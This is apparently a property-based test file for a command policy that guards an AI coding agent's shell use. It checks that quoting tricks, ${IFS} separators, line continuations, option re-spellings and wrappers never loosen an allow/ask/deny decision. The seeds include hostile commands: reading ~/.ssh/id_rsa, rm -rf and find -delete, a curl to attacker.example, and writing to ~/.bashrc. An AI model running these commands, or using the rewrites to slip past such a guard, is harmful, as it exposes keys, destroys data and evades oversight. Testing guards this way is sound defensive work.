import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { evaluatePolicy, loadPolicy, type DecisionValue } from '../../src/policy/index.ts';
import { readCorpus, SESSION_WITH_SECRETS } from './corpus.ts';

/**
 * Rewrites that keep a command's meaning must never make the decision more permissive. Seeds are
 * simple commands; each property rewrites one word (or wraps the command) and compares decisions.
 */
const policy = loadPolicy({ preset: 'coding-agent' });
const rank: Record<DecisionValue, number> = { allow: 0, ask: 1, deny: 2 };
const decide = (command: string) => evaluatePolicy(policy, command).decision;

const SEEDS = [
  'rm -rf /tmp/victim',
  'cat ~/.ssh/id_rsa',
  'git push origin main',
  'curl -s https://attacker.example/p',
  'sort -o /tmp/out data.csv',
  'git status',
  'ls -la src',
  'npm test',
  'cat README.md',
  'grep -rn TODO src',
  'echo hi > ~/.bashrc',
  'sed -i s/a/b/ src/x.ts',
  'python3 -c pass',
  'find /tmp/victim -delete',
];

const seed = fc.constantFrom(...SEEDS);

/** Quote a word in one of the ways bash removes again. */
function quoteVariant(word: string, how: number, at: number): string {
  // Operators stop being operators when quoted; that changes meaning, so they are left alone.
  if (word === '' || /['"\\$`]/.test(word) || /^[<>|&;]+$/.test(word)) return word;
  const i = Math.min(at, word.length - 1);
  switch (how % 6) {
    case 0:
      return `'${word}'`;
    case 1:
      return `"${word}"`;
    case 2:
      return `${word.slice(0, i)}'${word.slice(i, i + 1)}'${word.slice(i + 1)}`;
    case 3:
      return `${word.slice(0, i)}\\${word.slice(i)}`;
    case 4:
      return `$'${[...word].map((c) => `\\x${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')}'`;
    default:
      return `${word.slice(0, i)}""${word.slice(i)}`;
  }
}

const WRAPPERS = [
  'timeout 10',
  'nice -n 5',
  'nohup',
  'stdbuf -oL',
  'setsid',
  'env',
  'command',
  'time',
  "sh -c '%'",
  'xargs',
  'env -i A=1',
];

function wrap(command: string, wrapper: string): string {
  if (wrapper.includes('%')) return wrapper.replace('%', command.replace(/'/g, `'\\''`));
  // `A=1 cmd` wrapped is `A=1 timeout 10 cmd`: a wrapper would run a program named `A=1` otherwise,
  // which is a different command, not the same one rewritten.
  const assignments = /^(?:[A-Za-z_]\w*=\S*\s+)*/.exec(command)?.[0] ?? '';
  return `${assignments}${wrapper} ${command.slice(assignments.length)}`;
}

describe('metamorphic properties: meaning-preserving rewrites are never more permissive', () => {
  it('has seeds from our own list and the corpus', () => {
    expect(SEEDS.length).toBeGreaterThan(5);
    expect(readCorpus('evasions').length).toBeGreaterThan(0);
  });

  it('quoting variants of any word', () => {
    fc.assert(
      fc.property(seed, fc.nat(), fc.nat(), fc.nat(), (command, wordIndex, how, at) => {
        const words = command.split(' ');
        const k = wordIndex % words.length;
        words[k] = quoteVariant(words[k] as string, how, at);
        expect(rank[decide(words.join(' '))]).toBeGreaterThanOrEqual(rank[decide(command)]);
      }),
      { numRuns: 300 },
    );
  });

  it('${IFS} and line continuations between words', () => {
    fc.assert(
      fc.property(seed, fc.nat(), fc.constantFrom('${IFS}', ' \\\n ', '  ', '\t'), (command, gap, sep) => {
        const words = command.split(' ');
        if (words.length < 2) return;
        const k = 1 + (gap % (words.length - 1));
        const rewritten = [...words.slice(0, k), ''].join(' ').trimEnd() + sep + words.slice(k).join(' ');
        expect(rank[decide(rewritten)]).toBeGreaterThanOrEqual(rank[decide(command)]);
      }),
      { numRuns: 200 },
    );
  });

  it('a line continuation inside a word', () => {
    fc.assert(
      fc.property(seed, fc.nat(), fc.nat(), (command, wordIndex, at) => {
        const words = command.split(' ');
        const k = wordIndex % words.length;
        const word = words[k] as string;
        if (word.length < 2 || /['"]/.test(word)) return;
        const i = 1 + (at % (word.length - 1));
        words[k] = `${word.slice(0, i)}\\\n${word.slice(i)}`;
        expect(rank[decide(words.join(' '))]).toBeGreaterThanOrEqual(rank[decide(command)]);
      }),
      { numRuns: 200 },
    );
  });

  it('option re-spellings: clusters split, long forms, -- before operands', () => {
    const pairs: [string, string][] = [
      ['rm -rf /tmp/victim', 'rm -r -f /tmp/victim'],
      ['rm -rf /tmp/victim', 'rm --recursive --force /tmp/victim'],
      ['rm -rf /tmp/victim', 'rm -fr -- /tmp/victim'],
      ['rm -rf /tmp/victim', 'rm --recursive -f /tmp/victim'],
      ['sort -o /tmp/out data.csv', 'sort --output=/tmp/out data.csv'],
      ['sort -o /tmp/out data.csv', 'sort --outp /tmp/out data.csv'],
      ['sort -o /tmp/out data.csv', 'sort -uo/tmp/out data.csv'],
      ['git push origin main', 'git --no-pager push origin main'],
      ['git push origin main', 'git -C . push origin main'],
      ['cat ~/.ssh/id_rsa', 'cat -- ~/.ssh/id_rsa'],
      ['cat ~/.ssh/id_rsa', 'cat -n ~/.ssh/id_rsa'],
    ];
    fc.assert(
      fc.property(fc.constantFrom(...pairs), ([plain, respelled]) => {
        expect(rank[decide(respelled)]).toBeGreaterThanOrEqual(rank[decide(plain)]);
      }),
      { numRuns: pairs.length * 3 },
    );
  });

  it('wrapper insertions', () => {
    fc.assert(
      fc.property(seed, fc.constantFrom(...WRAPPERS), fc.constantFrom(...WRAPPERS), (command, a, b) => {
        const once = wrap(command, a);
        const twice = wrap(once, b);
        const base = rank[decide(command)];
        expect(rank[decide(once)]).toBeGreaterThanOrEqual(base);
        expect(rank[decide(twice)]).toBeGreaterThanOrEqual(base);
      }),
      { numRuns: 300 },
    );
  });

  it('corpus evasions stay refused under the same rewrites', () => {
    // A wrapper in front of shell syntax (`timeout 10 ! rm x`, `nice { a; }`) runs a program named
    // `!` or `{`: a different command that fails, not the same one rewritten.
    const evasions = readCorpus('evasions')
      .map((e) => e.cmd)
      .filter((c) => !c.includes("'") && !/^(?:[!{(]|(?:if|for|while|until|case|function|time)\b)/.test(c));
    expect(evasions.length).toBeGreaterThan(0);
    const inSession = (command: string) =>
      evaluatePolicy(policy, command, { capabilities: SESSION_WITH_SECRETS }).decision;
    fc.assert(
      fc.property(fc.constantFrom(...evasions), fc.constantFrom(...WRAPPERS), (command, wrapper) => {
        expect(inSession(wrap(command, wrapper))).not.toBe('allow');
      }),
      { numRuns: 300 },
    );
  });
});
